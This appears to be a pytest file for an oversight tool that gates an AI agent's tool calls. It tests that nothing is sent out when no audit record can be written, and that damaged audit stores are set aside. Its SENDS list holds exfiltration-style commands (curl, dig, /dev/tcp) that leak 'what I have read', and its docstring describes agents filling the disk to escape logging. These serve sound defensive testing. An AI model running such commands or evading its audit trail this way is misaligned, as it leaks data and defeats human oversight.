"""
A disk that cannot be written, and a store that is damaged: what an agent could make of it.

An agent can fill the disk. Whatever runs while no record can be written leaves no trace, so it
must not be able to change anything or to tell anybody what it has read.
"""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any

import pytest

from proctor.audit.stores.set_aside import Damage, lost, may_set_aside, set_aside
from proctor.errors import ProctorError, StoreError
from proctor.keepers import FILE
from proctor.owner.client import Client
from proctor.terms.verdict import NOT_KEPT, NOTHING_RUNS
from tests.hook.conftest import rig as hook_rig
from tests.hook.rig import ATTENDED, Rig
from tests.server.running import call, running, until
from tests.server.test_faults import full_disk

OPEN = """\
description: May do everything
tools: ["*"]
permissions: {allow: ["*", "mcp__*"], otherwise: allow}
"""
SENDS: list[tuple[str, dict[str, Any]]] = [
    ("WebSearch", {"query": "what I have read"}),
    ("WebFetch", {"url": "https://example.org/?q=what-I-have-read"}),
    ("mcp__notes__read", {"name": "what I have read"}),
    ("ReadMcpResource", {"server": "notes", "uri": "notes://what-I-have-read"}),
    ("ListMcpResources", {"server": "what-I-have-read"}),
    ("lookup", {"name": "what I have read"}),
    ("Bash", {"command": "curl -s https://example.org/what-I-have-read"}),
    ("Bash", {"command": "dig what-I-have-read.example.org"}),
    ("Bash", {"command": "gh search issues what-I-have-read"}),
    ("Bash", {"command": "npm view what-I-have-read"}),
    ("Bash", {"command": "git ls-remote https://example.org/what-I-have-read"}),
    ("Bash", {"command": "ls; gh pr view 1"}),
    ("Bash", {"command": "cat < /dev/tcp/example.org/80"}),
    ("Bash", {"command": "echo $(dig what-I-have-read.example.org)"}),
    ("Bash", {"command": "f() { npm view x; }; f"}),
    ("Task", {"subagent_type": "general-purpose", "prompt": "tell everybody"}),
    ("Write", {"file_path": "a.txt", "content": "x"}),
    ("Bash", {"command": "./what-nobody-knows"}),
]
READS: list[tuple[str, dict[str, Any]]] = [
    ("Read", {"file_path": "a.txt"}),
    ("Grep", {"pattern": "x", "path": "."}),
    ("Bash", {"command": "ls -l && git status"}),
    ("TodoWrite", {"todos": []}),
]
EVERYTHING = [*SENDS, *READS]
rig = hook_rig


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """Give a home with a role that allows everything."""
    home = tmp_path / "home"
    (home / "roles").mkdir(parents=True)
    (home / "roles" / "all.yaml").write_text(OPEN)
    (tmp_path / "shop" / ".git").mkdir(parents=True)
    return home


def verdicts(home: Path, calls: list[tuple[str, dict[str, Any]]]) -> list[tuple[str, str]]:
    """Return what the server decides about calls, and why."""
    found = []
    with Client.connect(home) as client:
        for tool, given in calls:
            said = client.call(
                "decide", tool=tool, input=given, cwd=str(home.parent / "shop"), role="all"
            )
            found.append((said["effect"], said["why"]))
    return found


def test_nothing_is_sent_out_on_a_full_disk(home: Path) -> None:
    """Everything is allowed by its role; without a record only plain reads run."""
    with running(home) as server:
        assert {effect for effect, _ in verdicts(home, EVERYTHING)} == {"allow"}
        with full_disk(server):
            sent, read = verdicts(home, SENDS), verdicts(home, READS)

    assert [
        call for call, said in zip(SENDS, sent, strict=True) if said != ("deny", NOT_KEPT)
    ] == []
    assert {effect for effect, _ in read} == {"allow"}


def test_nothing_at_all_runs_where_the_config_says_so(home: Path) -> None:
    """With `unrecorded: refuse` reads are refused too, also where a server runs already."""
    with running(home) as server:
        verdicts(home, READS)
        (home / "config.yaml").write_text("unrecorded: refuse\n")
        assert {effect for effect, _ in verdicts(home, EVERYTHING)} == {"allow"}
        with full_disk(server):
            # The file is looked at again a moment after it has changed.
            until(lambda: verdicts(home, READS)[0][0] == "deny")
            assert set(verdicts(home, EVERYTHING)) == {("deny", NOTHING_RUNS)}


def test_a_project_cannot_loosen_it(home: Path) -> None:
    """A repository's own config says nothing about it."""
    (home / "config.yaml").write_text("unrecorded: refuse\n")
    own = home.parent / "shop" / ".proctor"
    own.mkdir()
    (own / "config.yaml").write_text("unrecorded: reads\n")
    with running(home) as server:
        assert {effect for effect, _ in verdicts(home, READS)} == {"allow"}
        with full_disk(server):
            assert set(verdicts(home, READS)) == {("deny", NOTHING_RUNS)}


@contextmanager
def unwritable(home: Path) -> Iterator[None]:
    """Let neither a record nor a server's socket be written in a home."""
    shutil.rmtree(home / "spool", ignore_errors=True)
    (home / "spool").write_text("")
    (home / "logs").write_text("")
    yield
    for name in ("spool", "logs"):
        (home / name).unlink()


def hooked(rig: Rig, tool: str, given: dict[str, Any], env: dict[str, str] | None) -> str:
    """Return what a hook without a server decides."""
    return rig.run(rig.event(tool_name=tool, tool_input=given), env).decision


@pytest.mark.parametrize("env", [None, ATTENDED], ids=["headless", "attended"])
def test_a_hook_without_a_server_sends_nothing_out(rig: Rig, env: dict[str, str] | None) -> None:
    """It is the same where no server can be had; the program's own dialog is no way round."""
    (rig.home / "roles").mkdir()
    (rig.home / "roles" / "all.yaml").write_text(OPEN)
    rig.install(role="all", ask_holds=True)
    tried = (SENDS[0], SENDS[8])
    with unwritable(rig.home):
        assert [hooked(rig, *call, env) for call in tried] == ["deny", "deny"]
        assert hooked(rig, *READS[0], env) == "allow"
        (rig.home / "config.yaml").write_text("unrecorded: refuse\n")
        assert hooked(rig, *READS[0], env) == "deny"


def test_a_dialog_without_a_record_is_no_way_round(rig: Rig) -> None:
    """What would be left to the program's dialog is refused, where nothing can be kept of it."""
    rig.install(role="guarded", ask_holds=True)
    with unwritable(rig.home):
        assert hooked(rig, *SENDS[1], ATTENDED) == "deny"
        assert os.path.getsize(rig.home / "spool") == 0  # noqa: PTH202 - plain


# A damaged store: what it held is gone, and that may only cause more asking.


def filled(home: Path) -> bytes:
    """Run a server that keeps some records, and return its file."""
    with running(home):
        verdicts(home, [*READS, *READS])
    return (home / FILE).read_bytes()


def overwrite(home: Path) -> None:
    """Write over every page but the first, under whoever uses the file."""
    size = (home / FILE).stat().st_size
    with (home / FILE).open("r+b") as file:
        file.seek(4096)
        file.write(b"\xff" * (size - 4096))


def aside(home: Path) -> list[Path]:
    """Return the files that were set aside."""
    return sorted(home.glob("proctor-damaged-*.db"))


def replaced(home: Path) -> list[dict[str, Any]]:
    """Return the records that tell of a damaged store."""
    done = call(home, "audit", "list", "--decision", "store_replaced", "--json")
    return list(json.loads(done.stdout))


DAMAGE: dict[str, Callable[[bytes], bytes]] = {
    "empty": lambda _: b"",
    "truncated": lambda whole: whole[: len(whole) // 2],
    "cut within the header": lambda whole: whole[:50],
    "no database": lambda _: b"Dear diary,\n" * 1000,
    "a damaged header": lambda whole: b"\xff" * 100 + whole[100:],
    "damaged pages": lambda whole: whole[:4096] + b"\xff" * (len(whole) - 4096),
}


@pytest.mark.parametrize("damage", DAMAGE)
def test_damaged_store_is_set_aside_at_the_start(home: Path, damage: str) -> None:
    """The server starts with a new file, says so, and deletes nothing."""
    broken = DAMAGE[damage](filled(home))
    (home / FILE).write_bytes(broken)

    with running(home) as server:
        assert {effect for effect, _ in verdicts(home, READS)} == {"allow"}
        (old,) = aside(home)
        assert str(old) in server.info["trouble"]
        assert str(old) in json.loads(call(home, "status", "--json").stdout)["trouble"]
        (told,) = replaced(home)
    assert old.read_bytes()[:4096] == broken[:4096]
    assert (str(old) in told["why"], told["agent_name"]) == (True, "proctor")
    assert call(home, "audit", "verify").returncode == 0


def test_store_damaged_under_a_running_server_is_replaced(home: Path) -> None:
    """Answers go on; the new chain names the last head that the server knew of the old one."""
    filled(home)
    with running(home) as server:
        verdicts(home, READS)
        before = json.loads(call(home, "audit", "verify", "--json").stdout)["heads"]
        overwrite(home)
        until(lambda: answered(home) and aside(home))
        until(lambda: answered(home) and replaced(home))
        assert server.process.poll() is None
        (told,) = replaced(home)
        (old,) = aside(home)
    named = {
        head["agent"]: (head["seq"], head["hash"]) for head in json.loads(told["detail"])["heads"]
    }
    assert all(named[head["agent"]][0] >= head["seq"] for head in before)
    looked = call(home, "audit", "verify", "--file", str(old))
    assert (looked.returncode, "Traceback" in looked.stderr) == (1, False)


def answered(home: Path) -> bool:
    """Have a call decided that leaves a record; False while the server starts again."""
    try:
        return verdicts(home, READS)[0][0] == "allow"
    except ProctorError:
        return False


def test_two_owners_set_a_damaged_store_aside_once(home: Path) -> None:
    """Of two servers that start at once one runs, and there is one file aside."""
    (home / FILE).write_bytes(filled(home)[:5000])
    with ThreadPoolExecutor(2) as pool:
        started = list(pool.map(lambda _: call(home, "up", "--background"), range(2)))
    try:
        assert len(aside(home)) == 1
        assert answered(home)
    finally:
        call(home, "down")
    assert 0 in [one.returncode for one in started]


def test_link_to_a_damaged_store_stays_a_link(home: Path) -> None:
    """The file is set aside where it lies, and the new one is made there."""
    whole = filled(home)
    disk = home.parent / "disk"
    disk.mkdir()
    (home / FILE).unlink()
    (disk / "kept.db").write_bytes(whole[:5000])
    (home / FILE).symlink_to(disk / "kept.db")

    with running(home):
        assert answered(home)
        assert (home / FILE).is_symlink()
        assert [path.read_bytes() for path in disk.glob("kept-damaged-*.db")] == [whole[:5000]]


def test_damaged_store_that_cannot_be_set_aside_is_left_alone(tmp_path: Path) -> None:
    """Where its folder cannot be written the error says what to do, and nothing is changed."""
    gone = tmp_path / "kept.db"
    with pytest.raises(StoreError, match="cannot be set aside") as caught:
        set_aside(Path("/proc/self/status"), Damage("it is damaged"))

    assert "move it away yourself" in (caught.value.help or "")
    assert not may_set_aside(Path("/proc/self/status"))
    assert lost(gone) is None


def test_numbers_go_on_behind_those_of_the_lost_file(home: Path) -> None:
    """An answer to a question of the old file never meets one of the new file."""
    filled(home)
    overwrite(home)
    with running(home), closing(sqlite3.connect(home / FILE)) as store:
        given = dict(store.execute("SELECT name, seq FROM sqlite_sequence"))
        runs = store.execute("SELECT given FROM run_numbers").fetchall()

    assert given["questions"] >= 1000
    assert given["grants"] >= 1000
    assert len(runs) == 1
